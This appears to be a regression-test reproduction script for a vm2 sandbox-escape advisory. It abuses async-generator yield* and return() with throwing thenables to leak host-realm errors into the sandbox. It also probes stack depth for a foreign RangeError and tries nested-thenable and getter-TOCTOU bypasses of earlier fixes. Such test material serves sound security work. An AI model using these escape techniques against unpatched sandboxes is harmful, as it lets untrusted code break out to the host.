// Source: vm2 test/ghsa/GHSA-248r-7h7q-cr24/repro.js (CVE-2026-45411, fixed in vm2 3.11.3).
// Tried: an async generator delegating with yield* to an iterator without `return`; calling
// `i.return(thenable)` whose `then` throws makes V8 deliver the exception as `{ value, done: false }`
// without any catch. The canonical PoC binary-searches the stack depth at which the overflow
// RangeError is created by host code; also the closure-transport, nested-thenable and getter-TOCTOU
// bypasses of the first fixes, and a host throw (Buffer.alloc(-1)).
const out = {};
class E extends Error {}
function so(d) {
  if (d > 0) so(d - 1);
  const e = new E();
  e.stack;
  throw e;
}
const makeHelper = (closure) => async function* helper() {
  yield* { [Symbol.asyncIterator]: () => ({ next: (v) => ({ value: closure ? () => v : v, done: false }), throw: (v) => ({ value: closure ? () => v : v, done: false }) }) };
};
async function doCatch(f, closure) {
  const i = makeHelper(closure)();
  await i.next();
  const v = await i.return({ then(r) { f(); r(); } });
  return closure ? v.value() : v.value;
}
for (const closure of [false, true]) {
  let min = 0;
  let max = 200000;
  let rounds = 0;
  while (min < max && rounds++ < 40) {
    const mid = (min + max) >> 1;
    let e;
    try { e = await doCatch(() => so(mid), closure); } catch (err) { out['reject' + closure] = mid; break; }
    if (e && e.name === 'RangeError' && !(e instanceof RangeError)) { out['hostRangeError' + closure] = mid; __wr.use(e, 'foreign RangeError at depth ' + mid); break; }
    if (e instanceof E) min = mid + 1;
    else max = mid;
  }
  out['search' + closure] = [min, max];
}
for (const [label, f] of [['sandbox throw', () => { throw new Error('sandbox-throw'); }], ['host throw', () => { Buffer.alloc(-1); }], ['url throw', () => new URL('')]]) {
  try { const e = await doCatch(f, false); __wr.use(e, label); out[label] = e && e.constructor === Error ? 'sandbox Error' : typeof e; } catch (x) { out[label] = 'rejected'; }
}
try {
  const i = makeHelper(true)();
  await i.next();
  const wrap = await i.return({ then(r) { r({ then() { const e = new Error('nested-bypass'); e.name = 'PWN'; throw e; } }); } });
  __wr.use(wrap.value(), 'nested thenable');
} catch (e) { out.nested = String(e.message).slice(0, 60); }
try {
  let calls = 0;
  const i = makeHelper(true)();
  await i.next();
  const wrap = await i.return({ get then() { calls++; if (calls === 1) return undefined; return function () { throw new Error('toctou'); }; } });
  __wr.use(typeof wrap.value === 'function' ? wrap.value() : wrap.value, 'getter TOCTOU');
} catch (e) { out.toctou = String(e.message).slice(0, 60); }
return out;
